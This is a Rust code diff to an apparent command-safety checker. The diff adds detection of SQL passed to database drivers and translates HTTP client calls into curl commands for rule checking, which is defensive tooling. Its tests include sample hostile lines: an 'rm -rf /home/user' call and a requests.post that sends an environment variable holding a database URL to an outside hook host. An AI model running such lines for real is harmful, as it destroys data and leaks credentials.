@@ -77,6 +77,58 @@ const DELETE_METHODS: &[(&str, bool)] = &[
     ("remove_file", false),
 ];
 
+/// Methods that run their first string argument as SQL (`cur.execute("UPDATE ...")`,
+/// `conn.exec_driver_sql(...)`, `db.query('TRUNCATE ...')`).
+const SQL_CALLS: Words = words![
+    "execute",
+    "executemany",
+    "executescript",
+    "exec_driver_sql",
+    "query",
+    "raw"
+];
+
+/// HTTP client calls whose method is their name (`requests.post(url, ...)`,
+/// `httpx.delete(...)`, `session.put(...)`), read as the `curl` they amount to.
+const REQUEST_CALLS: &[(&str, &str)] = &[
+    ("requests.post", "POST"),
+    ("requests.put", "PUT"),
+    ("requests.patch", "PATCH"),
+    ("requests.delete", "DELETE"),
+    ("httpx.post", "POST"),
+    ("httpx.put", "PUT"),
+    ("httpx.patch", "PATCH"),
+    ("httpx.delete", "DELETE"),
+    ("session.post", "POST"),
+    ("session.put", "PUT"),
+    ("session.delete", "DELETE"),
+    ("axios.post", "POST"),
+    ("axios.put", "PUT"),
+    ("axios.delete", "DELETE"),
+];
+
+/// The SQL that program code gives to a database driver: the first string argument of an
+/// `execute`-like method that reads as SQL, for the SQL rules to judge like any statement.
+pub fn sql_literals(input: &str, span: Span) -> Vec<Span> {
+    let Some(code) = input.get(span.start..span.end) else {
+        return Vec::new();
+    };
+    let mut out = Vec::new();
+    for name in SQL_CALLS {
+        for (at, open) in calls(code, name, true) {
+            if !code[..at].ends_with('.') {
+                continue;
+            }
+            let statement = call_strings(code, open).into_iter().find(|s| {
+                crate::plan::looks_like_sql(s.slice(code).trim().trim_end_matches(';'))
+                    || crate::plan::looks_like_sql(s.slice(code).trim())
+            });
+            out.extend(statement.map(|s| Span::new(span.start + s.start, span.start + s.end)));
+        }
+    }
+    out
+}
+
 /// A string literal starting at `at` (on its quote): the span of its contents.
 fn literal(code: &str, at: usize) -> Option<(Span, usize)> {
     let quote = *code.as_bytes().get(at)?;
@@ -122,6 +174,33 @@ fn call_strings(code: &str, open: usize) -> Vec<Span> {
         i += 1;
     }
     out
+}
+
+/// Where the call opened at `open` closes: just past its `)`, or the end of the code.
+fn call_end(code: &str, open: usize) -> usize {
+    let bytes = code.as_bytes();
+    let mut depth = 0usize;
+    let mut i = open;
+    while i < bytes.len() {
+        match bytes[i] {
+            b'(' | b'[' | b'{' => depth += 1,
+            b')' | b']' | b'}' => {
+                depth = depth.saturating_sub(1);
+                if depth == 0 {
+                    return i;
+                }
+            }
+            b'\'' | b'"' | b'`' => {
+                if let Some((_, next)) = literal(code, i) {
+                    i = next;
+                    continue;
+                }
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    bytes.len()
 }
 
 /// Every occurrence of `name` followed by `(` (or, for Perl/Ruby, a space and a string).
@@ -180,6 +259,44 @@ pub fn commands(input: &str, span: Span, state: &mut ShellState) -> Vec<Command>
             } else {
                 out.extend(parse_commands(input, absolute(*first), state));
             }
+        }
+    }
+    for (name, method) in REQUEST_CALLS {
+        for (at, open) in calls(code, name, true) {
+            let strings = call_strings(code, open);
+            let absolute = |s: Span| Span::new(span.start + s.start, span.start + s.end);
+            let call = absolute(Span::new(at, at + name.len()));
+            // The URL is the first string; everything else in the call (headers, a JSON body,
+            // values from the environment) is what it sends.
+            let Some(url) = strings.first().map(|s| absolute(*s)) else {
+                continue;
+            };
+            let end = call_end(code, open);
+            let rest = absolute(Span::new(strings[0].end + 1, end.max(strings[0].end + 1)));
+            let arg = |value: &str, span: Span, quoted: bool| Arg {
+                value: value.to_string(),
+                span,
+                dynamic: false,
+                glob: false,
+                quoted,
+                if_empty: None,
+            };
+            let mut args = vec![arg("-X", call, false), arg(method, call, false)];
+            args.push(arg(url.slice(input), url, true));
+            if !rest.is_empty() && rest.slice(input).trim() != ")" {
+                args.push(arg("--data", rest, false));
+                args.push(arg(rest.slice(input), rest, true));
+            }
+            out.push(Command {
+                program: "curl".into(),
+                program_span: call,
+                args,
+                span: call.cover(rest),
+                wrappers: vec!["inline code"],
+                input: Input::Terminal,
+                writes: Vec::new(),
+                cwd: state.cwd.clone(),
+            });
         }
     }
     let deletes = DELETE_CALLS
@@ -318,6 +435,32 @@ mod tests {
             "rm"
         );
         assert_eq!(programs("system('rm -rf /home/user')")[0].0, "rm");
+    }
+
+    #[test]
+    fn sql_given_to_a_driver_is_found_and_an_http_call_is_a_request() {
+        let code = "cur.execute(\"UPDATE users SET avatar_url = %s\", (url,))\ncur.execute('SELECT count(*) FROM users')\nprint('execute nothing')";
+        let found: Vec<&str> = sql_literals(code, Span::new(0, code.len()))
+            .into_iter()
+            .map(|s| s.slice(code))
+            .collect();
+        assert_eq!(
+            found,
+            [
+                "UPDATE users SET avatar_url = %s",
+                "SELECT count(*) FROM users"
+            ]
+        );
+        let posted = programs(
+            "requests.post(\"https://hooks.example.io/x\", json={\"db\": os.environ[\"DB_URL\"]})",
+        );
+        assert_eq!(posted[0].0, "curl");
+        assert_eq!(
+            posted[0].1[..3],
+            ["-X", "POST", "https://hooks.example.io/x"]
+        );
+        assert!(posted[0].1[4].contains("DB_URL"));
+        assert!(programs("requests.get(\"https://api.example.io/x\")").is_empty());
     }
 
     #[test]
